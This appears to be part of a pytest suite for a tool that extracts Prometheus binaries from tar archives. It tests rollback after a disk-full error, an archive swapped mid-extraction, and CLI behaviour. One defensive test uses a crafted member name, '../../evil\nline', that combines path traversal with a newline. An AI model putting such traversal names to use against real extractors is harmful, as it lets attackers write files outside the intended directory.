        entry(f"{root}/promtool", AMD64, mode=0o755),
    ])
    out = tmp_path / "out"
    real_replace = os.replace
    calls: List[str] = []

    def flaky_replace(src: str, dst: str) -> None:
        calls.append(str(dst))
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_replace(src, dst)

    monkeypatch.setattr(archive_module.os, "replace", flaky_replace)
    with pytest.raises(ArchiveError, match=r"cannot write the binaries .*No space left on device"):
        extract_binaries(archive, ["prometheus", "promtool"], out)
    assert len(calls) == 2
    assert out_files(out) == []  # the first binary, already renamed, was removed too


def test_archive_changed_between_passes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    swapped = tar_bytes(prometheus_layout(ARM64))
    real = archive_module._tar_payloads

    def swap_then_read(fp, fmt, label, limits, indexes):  # type: ignore[no-untyped-def]
        return real(io.BytesIO(swapped), archive_module._Format("tar", "none", ".tar", "tar"), label,
                    limits, indexes)

    monkeypatch.setattr(archive_module, "_PAYLOADS", {**archive_module._PAYLOADS, "tar": swap_then_read})
    out = tmp_path / "out"
    with pytest.raises(ArchiveError, match="changed between validation and extraction"):
        extract_binaries(archive, ["node_exporter"], out)
    assert out_files(out) == []


# --- CLI --------------------------------------------------------------------------------------


def test_cli_extract(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    out = tmp_path / "out"
    rc = cli.main(["extract", "--archive", str(archive), "--out", str(out),
                   "--binary", "node_exporter", "--arch", "amd64"])
    assert rc == 0
    assert (out / "node_exporter").read_bytes() == AMD64
    assert capsys.readouterr().out.strip() == str(out / "node_exporter")


def test_cli_error_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout() + [entry("../../evil\nline", b"x")])
    out = tmp_path / "out"
    rc = cli.main(["extract", "--archive", str(archive), "--out", str(out), "--binary", "node_exporter",
                   "--binary", "other"])
    assert rc == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"error: {archive}: member ")
    assert "Traceback" not in err
    assert out_files(out) == []
